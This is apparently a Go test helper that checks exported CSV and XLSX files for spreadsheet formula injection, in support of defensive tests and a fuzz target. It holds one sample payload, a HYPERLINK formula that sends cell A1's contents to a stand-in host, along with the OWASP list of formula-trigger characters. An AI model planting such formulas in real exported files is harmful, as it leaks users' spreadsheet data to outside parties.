package cli

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/xml"
	"fmt"
	"io"
	"regexp"
	"strings"
	"unicode"
	"unicode/utf8"

	"github.com/xuri/excelize/v2"
)

// Checks of what a spreadsheet makes of our files, shared by the tests per
// trigger character, the LibreOffice test and the fuzz target.

// injection is issue 14's scenario name after its first character.
const injection = `HYPERLINK("http://x.example/?"&A1,"click")`

// formulaStarts are the first characters that make a spreadsheet read a
// cell as a formula (OWASP's list).
var formulaStarts = []string{"=", "+", "-", "@", "\t", "\r"}

var plainNumber = regexp.MustCompile(`^-?[0-9]+(\.[0-9]+)?$`)

// csvProblem reads a CSV as a spreadsheet program would and says what is
// wrong with it, "" if nothing: a missing byte-order mark, a malformed
// file (encoding/csv cannot read it, or rows of different lengths), a cell
// a spreadsheet would take as a formula, or text that is not there
// (want: the text must be a cell, as written or neutralised).
func csvProblem(data []byte, want string) string {
	body, ok := bytes.CutPrefix(data, []byte("\uFEFF"))
	if !ok {
		return "no byte-order mark"
	}
	rows, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
	if err != nil {
		return "malformed: " + err.Error()
	}
	// encoding/csv reads \r\n inside a quoted cell as \n.
	want = strings.ReplaceAll(want, "\r\n", "\n")
	found := want == ""
	for i, row := range rows {
		for j, cell := range row {
			if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") && !plainNumber.MatchString(cell) {
				return fmt.Sprintf("row %d column %d is a formula to a spreadsheet: %q", i+1, j+1, cell)
			}
			if cell == want || cell == "'"+want {
				found = true
			}
		}
	}
	if !found {
		return fmt.Sprintf("the text %q is not in any cell", want)
	}
	return ""
}

// xlsxProblem opens a workbook as a spreadsheet program would and says
// what is wrong with it, "" if nothing: a part that is not well-formed XML,
// a workbook excelize cannot read, a formula holding the text (a formula
// the program writes computes with cells, numbers and its own words — the
// conclusion's answer sentence, a ranking word —, never with text it was
// given), or text (of 3 characters or more, without control characters)
// that is not written as text (a shared or inline string).
func xlsxProblem(data []byte, text string) string {
	zr, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		return "not a zip: " + err.Error()
	}
	text = strings.TrimSpace(text)
	check := utf8.RuneCountInString(text) >= 3 && !strings.ContainsFunc(text, unicode.IsControl)
	var strs strings.Builder // every string cell's text
	for _, f := range zr.File {
		if !strings.HasSuffix(f.Name, ".xml") && !strings.HasSuffix(f.Name, ".rels") {
			continue
		}
		rc, err := f.Open()
		if err != nil {
			return f.Name + ": " + err.Error()
		}
		d := xml.NewDecoder(rc)
		var in string // the element whose text is read: "f" or "t"
		for {
			tok, err := d.Token()
			if err == io.EOF {
				break
			}
			if err != nil {
				rc.Close()
				return fmt.Sprintf("%s is not well-formed XML: %v", f.Name, err)
			}
			switch x := tok.(type) {
			case xml.StartElement:
				in = x.Name.Local
			case xml.EndElement:
				in = ""
			case xml.CharData:
				switch {
				case in == "f" && strings.HasPrefix(f.Name, "xl/worksheets/"):
					if fm := string(x); check && strings.Contains(fm, text) {
						rc.Close()
						return fmt.Sprintf("%s holds a formula with text: %q", f.Name, fm)
					}
				case in == "t" && (f.Name == "xl/sharedStrings.xml" || strings.HasPrefix(f.Name, "xl/worksheets/")):
					strs.Write(x)
				}
			}
		}
		rc.Close()
	}
	if check && !strings.Contains(strs.String(), text) {
		return fmt.Sprintf("%q is not written as text", text)
	}
	x, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		return "excelize cannot open it: " + err.Error()
	}
	defer x.Close()
	for _, sheet := range x.GetSheetList() {
		if _, err := x.GetRows(sheet); err != nil {
			return sheet + ": " + err.Error()
		}
	}
	return ""
}
